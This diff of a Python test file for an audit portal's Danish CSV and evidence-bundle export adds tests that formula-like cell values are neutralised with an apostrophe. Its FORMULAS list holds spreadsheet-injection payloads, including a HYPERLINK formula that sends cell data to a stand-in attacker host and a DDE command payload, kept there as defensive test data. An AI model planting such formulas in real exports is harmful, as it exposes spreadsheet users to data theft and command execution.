@@ -4,8 +4,8 @@ search, paging, the customer timeline, and the CSV and evidence bundle of what i
 import csv
 import datetime
 import io
-import json
 import re
+import zipfile
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -13,7 +13,8 @@ import pytest
 
 from approval_ledger import cli
 from development.demo import AGREEMENT_TITLE, PERSONS_BY_KEY, seed
-from ledger.evidence.bundle import ENTRIES_FILE, open_bundle, verify_bundle
+from ledger.evidence.bundle import ENTRIES_FILE, README_FILE, open_bundle, verify_bundle
+from ledger.export import neutralized
 from ledger.identity import Actor, person_uuid
 from tests.ledger.test_search import stored_id, tamper
 from tests.web.test_login import log_in
@@ -217,21 +218,93 @@ def test_the_newest_events_shown_are_proved_in_a_checkpoint_made_for_them(audito
         assert f"Med i checkpoint af størrelse {newest + 1}" in page.text
 
 
+def spreadsheet_rows(data: bytes) -> list[dict[str, str]]:
+    """A CSV file's rows as Danish Excel reads one: UTF-8 after its byte order mark (which
+    it needs to see the file as UTF-8), semicolons, the Excel dialect's quoting."""
+    assert data.startswith(b"\xef\xbb\xbf"), data[:20]
+    text = data[3:].decode("utf-8")
+    return list(csv.DictReader(io.StringIO(text, newline=""), dialect="excel", delimiter=";"))
+
+
 def test_the_csv_holds_every_match_as_shown(auditor, app):
     for _ in range(30):
         app.record_login_rejected(reason="replayed", idp="https://idp.example", cvr=ODENSE)
     answer = auditor.get("/revision/eksport.csv", query_string={"cvr": ODENSE})
     assert answer.status_code == 200
     assert answer.mimetype == "text/csv"
+    assert answer.mimetype_params == {"charset": "utf-8"}
     assert "attachment" in answer.headers["Content-Disposition"]
-    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
-    assert [int(row["seq"]) for row in rows] == newest_first(app, lambda e: e.cvr == ODENSE)
+    assert b"\r\n" in answer.data  # the line ends Excel expects
+    rows = spreadsheet_rows(answer.data)
+    assert [int(row["Nr."]) for row in rows] == newest_first(app, lambda e: e.cvr == ODENSE)
     assert len(rows) > 25  # every page, not only the first
-    assert {row["verification"] for row in rows} == {"Verificeret"}
-    assert {row["cvr"] for row in rows} == {ODENSE}
-    reset = next(row for row in rows if row["type"] == "ApprovalReset")
-    assert json.loads(reset["facts"])["reason"].startswith("Bo Berg er ikke tegningsberettiget")
-    assert "Clara Christensen" in next(row["actor"] for row in rows if row["type"] == "Approved")
+    assert {row["Kontrol i portalen"] for row in rows} == {"Verificeret"}
+    assert {row["CVR"] for row in rows} == {ODENSE}
+    reset = next(row for row in rows if row["Hændelse"] == "Godkendelse nulstillet")
+    assert reset["Begrundelse"].startswith("Bo Berg er ikke tegningsberettiget")
+    bo = next(row for row in rows if row["Udført af"] == "Bo Berg")
+    assert reset["Nulstiller godkendelsen med nr."] == bo["Nr."]  # the approval it undid
+    clara = next(row for row in rows if row["Udført af"] == "Clara Christensen")
+    assert clara["Hændelse"] == "Godkendt"
+    assert clara["Sikringsniveau"] == "Høj"
+    assert clara["Aftale"] == f"{AGREEMENT_TITLE}, version 2026.1"
+    assert re.fullmatch(r"\d\d-\d\d-20\d\d \d\d:\d\d:\d\d", clara["Tidspunkt (dansk tid)"])
+    refusal = next(row for row in rows if row["Afvisningskode"] == "replayed")
+    assert refusal["Afvisningsårsag"] == "Login-svaret var allerede brugt (genafspillet)"
+    # One column per fact: no cell holds JSON or a Python value.
+    assert not any(cell.startswith(("{", "[")) for row in rows for cell in row.values())
+
+
+FORMULAS = (
+    '=HYPERLINK("https://angriber.example/?d="&A1;"Klik her")',
+    "+SUM(1+1)",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "%1",
+    "＝1+1",
+    "=cmd|' /C calc'!A0",
+)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")
+
+
+def test_a_cell_starting_like_a_formula_gets_an_apostrophe_and_others_stay_as_they_are():
+    # The ledger trims the texts it records, so a tab, CR or spaces first come only from
+    # elsewhere (an older event, an import); the cell is safe all the same.
+    for text in ("\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "-1", "|x", *FORMULAS):
+        assert neutralized(text) == "'" + text
+    for text in ("Odense Kommune", "Bo Berg", "2026-12-01", "a=b", "", "'=1"):
+        assert neutralized(text) == text
+
+
+@pytest.mark.parametrize("path", ["/revision/eksport.csv", "bundle"])
+def test_formula_shaped_names_reach_the_spreadsheet_as_text(auditor, app, path, tmp_path):
+    """A customer, a person and a reason named like formulas come out of both CSV files as
+    text: every cell that a spreadsheet would take as a formula starts with an apostrophe."""
+    operator = Actor(Actor.OPERATOR, "+operator()")
+    for number, formula in enumerate(FORMULAS):
+        app.grant_role(
+            person_uuid=f"2a0e3b5c-55a1-4b7e-9c1d-{number:012d}",
+            person_name=formula,
+            role="auditor",
+            cvrs=[],
+            actor=operator,
+        )
+    app.register_customer(cvr="29180008", name=FORMULAS[0], actor=operator)
+    if path == "bundle":
+        bundle = fetch_bundle(auditor, tmp_path, "formulas.zip")
+        with zipfile.ZipFile(bundle) as archive:
+            data = archive.read("history.csv")
+    else:
+        data = auditor.get(path).data
+    rows = spreadsheet_rows(data)
+    cells = [cell for row in rows for cell in row.values()]
+    for formula in FORMULAS:
+        assert "'" + formula in cells, formula
+    assert "'+operator()" in cells
+    unescaped = [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
+    assert unescaped == []
+    customer = next(row for row in rows if row["CVR"] == "29180008")
+    assert customer["Kundens navn"] == "'" + FORMULAS[0]
 
 
 def fetch_bundle(client, tmp_path: Path, name: str, **query) -> Path:
@@ -283,8 +356,8 @@ def test_an_auditor_limited_to_one_cvr_sees_and_exports_only_it(portal, app, tmp
     assert portal.get("/revision/", query_string={"cvr": AARHUS}).status_code == 403
     assert portal.get(f"/revision/kunde/{AARHUS}").status_code == 403
     assert portal.get("/revision/eksport.csv", query_string={"cvr": AARHUS}).status_code == 403
-    rows = list(csv.DictReader(io.StringIO(portal.get("/revision/eksport.csv").text)))
-    assert {row["cvr"] for row in rows} == {ODENSE}
+    rows = spreadsheet_rows(portal.get("/revision/eksport.csv").data)
+    assert {row["CVR"] for row in rows} == {ODENSE}
     bundle = fetch_bundle(portal, tmp_path, "limited.zip")
     report = verify_bundle(bundle, app.keyring.verifier_keys())
     assert report.ok
@@ -386,3 +459,42 @@ def test_person_uuids_are_searched_in_the_form_the_ledger_keeps(auditor):
     assert person_uuid(f"urn:uuid:{clerk.upper()}") == clerk
     page = auditor.get("/revision/", query_string={"person": clerk})
     assert f'href="/revision/?person={clerk}"' in page.text
+
+
+def test_the_bundle_says_in_danish_what_it_holds_and_verifies_with_or_without_that(
+    auditor, app, tmp_path, monkeypatch
+):
+    path = fetch_bundle(auditor, tmp_path, "odense.zip", cvr=ODENSE)
+    with zipfile.ZipFile(path) as archive:
+        names = archive.namelist()
+        read_me = archive.read(README_FILE).decode("utf-8")
+        members = {name: archive.read(name) for name in names}
+    assert README_FILE == "LÆS MIG.txt"
+    for name in names:
+        if name != README_FILE:
+            assert name in read_me, name  # every file is explained
+    assert "ledger verify --bundle" in read_me
+    assert "delmængde" in read_me
+    keys = tmp_path / "keys"
+    keys.write_text("".join(f"{k.line()}\n" for k in app.keyring.verifier_keys().values()))
+    monkeypatch.setenv("LEDGER_DATA_DIR", str(tmp_path / "elsewhere"))
+    variants = {
+        "without": {n: d for n, d in members.items() if n != README_FILE},
+        "changed": members | {README_FILE: b"Alt er godkendt. Intet at kontrollere.\n"},
+        "as-is": members,
+    }
+    for variant, files in variants.items():
+        bundle = tmp_path / f"{variant}.zip"
+        with zipfile.ZipFile(bundle, "w") as archive:
+            for name, data in files.items():
+                archive.writestr(name, data)
+        report = verify_bundle(bundle, app.keyring.verifier_keys())
+        assert report.ok, (variant, report.problems)
+        assert cli.main(["verify", "--bundle", str(bundle), "--keys", str(keys)]) == 0, variant
+    # What it says is not trusted: a changed entry fails whatever the text claims.
+    entries = members[ENTRIES_FILE].replace(b'"seq":', b'"seq": ', 1)
+    broken = tmp_path / "broken.zip"
+    with zipfile.ZipFile(broken, "w") as archive:
+        for name, data in (variants["changed"] | {ENTRIES_FILE: entries}).items():
+            archive.writestr(name, data)
+    assert not verify_bundle(broken, app.keyring.verifier_keys()).ok
